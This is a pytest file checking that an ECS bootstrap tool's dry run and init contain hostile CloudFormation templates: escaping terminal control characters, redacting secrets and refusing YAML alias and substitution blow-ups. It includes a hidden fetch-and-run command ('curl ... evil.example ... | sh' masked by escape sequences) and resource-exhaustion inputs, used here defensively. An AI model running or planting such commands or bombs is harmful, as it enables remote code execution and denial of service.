"""Hostile input stays contained (issue 8): a template is not always written by the person who
reads its dry run, and an instance's console log is readable with ec2:GetConsoleOutput. These
run the binary on small hostile inputs, without AWS: the dry run of a local template."""

from __future__ import annotations

import json
import subprocess
import time
from pathlib import Path

import pytest

from harness.instance import bootstrap_bin

pytestmark = pytest.mark.skipif(not bootstrap_bin().exists(), reason="binary not built")

HIDDEN_COMMAND = "curl -s https://evil.example/x | sh\r\u001b[2Kecho hello"
SECRETS = ("proxy-pw-secret", "src-pw-secret", "noecho-default-secret", "noecho-param-secret")


def hostile_template() -> dict:
    return {
        "Parameters": {
            "DbPass": {"Type": "String", "NoEcho": True, "Default": "noecho-default-secret"},
            "ApiKey": {"Type": "String", "NoEcho": "true"},
        },
        "Resources": {
            "LT": {"Type": "AWS::EC2::LaunchTemplate", "Properties": {}, "Metadata": {
                "ecs-bootstrap": {"Cluster": "c",
                                  "Proxy": "http://u:proxy-pw-secret@proxy.example:3128"},
                "AWS::CloudFormation::Init": {"config": {
                    "commands": {
                        "01_exec": {"command": ["sh", "-c", HIDDEN_COMMAND]},
                        "02_key": {"command": {"Fn::Sub": "echo ${ApiKey}"}},
                    },
                    "sources": {"/opt/a\r\u001b[2K": "https://u:src-pw-secret@h.example/a.tgz"},
                    "files": {"/etc/x": {"content": {"Fn::Sub": "pw=${DbPass}"}}},
                }}}},
            "ASG": {"Type": "AWS::AutoScaling::AutoScalingGroup", "Properties": {}},
        },
    }


def dry_run(tmp_path: Path, template: dict | str, *args: str, prlimit_as: int | None = None,
            timeout: float = 60):
    path = tmp_path / "template.json"
    path.write_text(template if isinstance(template, str) else json.dumps(template))
    argv = [str(bootstrap_bin()), "--dry-run", "--template", str(path), "--resource", "LT",
            "--signal-resource", "ASG", "--root", str(tmp_path / "root"), *args]
    if prlimit_as:
        # The binary, not this test, pays for a blow-up: capped address space, so a regression
        # fails here instead of taking the machine down.
        argv = ["prlimit", f"--as={prlimit_as}", "--", *argv]
    return subprocess.run(argv, capture_output=True, text=True, timeout=timeout,
                          env={"PATH": "/usr/bin:/bin", "AWS_EC2_METADATA_DISABLED": "true"})


@pytest.mark.parametrize("output", ["text", "json"])
def test_dry_run_shows_control_characters_and_hides_secrets(tmp_path, output):
    res = dry_run(tmp_path, hostile_template(), "--output", output,
                  "--param", "ApiKey=noecho-param-secret")
    assert res.returncode == 0, res.stderr
    out = res.stdout
    assert "\r" not in out and "\u001b" not in out, repr(out)
    assert "evil.example" in out and "echo hello" in out, out
    for s in SECRETS:
        assert s not in out, f"{s} shown in the {output} plan:\n{out}"
    if output == "text":
        assert "mode 0600" in out, out  # ecs.config carries the proxy password


# ---- small inputs that expand: each ends in a clear error, never an abort (exit 134) -------

# The binary's address space in these tests: far above what a refused input needs, far below
# what a blow-up asks for (a pre-fix binary aborts or is killed here, the machine is safe).
CAP = 1 << 30


def _refused(res, needle: str):
    assert res.returncode not in (0, 101, 134, -6, -9), (res.returncode, res.stderr[-2000:])
    assert "FAILURE" in res.stderr and needle in res.stderr, res.stderr[-2000:]


def _with_metadata(metadata_yaml: str, extra: str = "") -> str:
    return (f"{extra}Resources:\n  LT:\n    Type: AWS::EC2::LaunchTemplate\n"
            f"    Metadata:\n{metadata_yaml}\n  ASG:\n    Type: AWS::AutoScaling::AutoScalingGroup\n")


def test_yaml_aliases_of_a_large_string_are_refused(tmp_path):
    big = "x" * (256 << 10)
    aliases = ", ".join(["*big"] * 4000)  # 1 GB expanded from a 280 KB file
    text = f"Big: &big {big}\n" + _with_metadata(f"      l: [{aliases}]")
    path = tmp_path / "template.yaml"
    path.write_text(text)
    res = subprocess.run(["prlimit", f"--as={CAP}", "--", str(bootstrap_bin()), "--dry-run",
                          "--template", str(path), "--resource", "LT",
                          "--signal-resource", "ASG"],
                         capture_output=True, text=True, timeout=120)
    _refused(res, "expands to more than")


def test_sub_fan_out_is_refused(tmp_path):
    big = "y" * (256 << 10)
    params = f"Parameters:\n  Big:\n    Type: String\n    Default: {big}\n"
    sub = "${Big}" * 8000  # 2 GB from a 300 KB template
    res = dry_run(tmp_path, _with_metadata(f"      v: !Sub '{sub}'", params),
                  prlimit_as=CAP, timeout=120)
    _refused(res, "resolves to more than")


def test_deep_json_is_refused_quickly(tmp_path):
    # Before: the YAML fallback took 21 s here (51 s on a small instance) to say the same.
    started = time.monotonic()
    res = dry_run(tmp_path, '{"Resources": ' + "[" * 80_000, prlimit_as=CAP, timeout=60)
    _refused(res, "recursion limit")
    assert time.monotonic() - started < 5


def test_mustache_fan_out_is_refused_by_init(tmp_path):
    meta = {"AWS::CloudFormation::Init": {"config": {"files": {"/etc/fanout": {
        "content": "{{#l}}" * 8 + "0123456789abcdef" + "{{/l}}" * 8,
        "context": {"l": list(range(40))}}}}}}
    path = tmp_path / "meta.json"
    path.write_text(json.dumps(meta))
    root = tmp_path / "root"
    root.mkdir()
    res = subprocess.run(["prlimit", f"--as={CAP}", "--", str(bootstrap_bin()), "init",
                          str(path), "--root", str(root)],
                         capture_output=True, text=True, timeout=120,
                         env={"PATH": "/usr/bin:/bin", "AWS_EC2_METADATA_DISABLED": "true"})
    _refused(res, "renders to more than")
    assert not (root / "etc/fanout").exists()


def test_the_environment_file_ships_private():
    # /etc/ecs-bootstrap/env invites HTTPS_PROXY, which may carry a password.
    import tomllib
    meta = tomllib.loads((Path(__file__).parent.parent / "Cargo.toml").read_text())["package"]
    meta = meta["metadata"]
    deb = [a for a in meta["deb"]["assets"] if a[1] == "etc/ecs-bootstrap/env"]
    rpm = [a for a in meta["generate-rpm"]["assets"] if a["dest"] == "/etc/ecs-bootstrap/env"]
    assert [a[2] for a in deb] == ["600"] and [a["mode"] for a in rpm] == ["600"], (deb, rpm)


def test_init_redacts_a_failing_commands_output_and_its_record(tmp_path):
    meta = {
        "AWS::CloudFormation::Authentication": {
            "b": {"type": "basic", "username": "u", "password": "cmd-secret-pw",
                  "uris": ["http://127.0.0.1:9/"]}},
        "AWS::CloudFormation::Init": {"config": {"commands": {
            "01_leak": {"command": "echo token is cmd-secret-pw >&2; exit 3"}}}},
    }
    path = tmp_path / "meta.json"
    path.write_text(json.dumps(meta))
    root = tmp_path / "root"
    root.mkdir()
    res = subprocess.run([str(bootstrap_bin()), "init", str(path), "--root", str(root)],
                         capture_output=True, text=True, timeout=60,
                         env={"PATH": "/usr/bin:/bin", "AWS_EC2_METADATA_DISABLED": "true"})
    assert res.returncode != 0 and "01_leak" in res.stderr, res.stderr
    assert "cmd-secret-pw" not in res.stderr, res.stderr
    record = (root / "var/lib/ecs-bootstrap/init.json").read_text()
    assert "01_leak" in record and "cmd-secret-pw" not in record, record
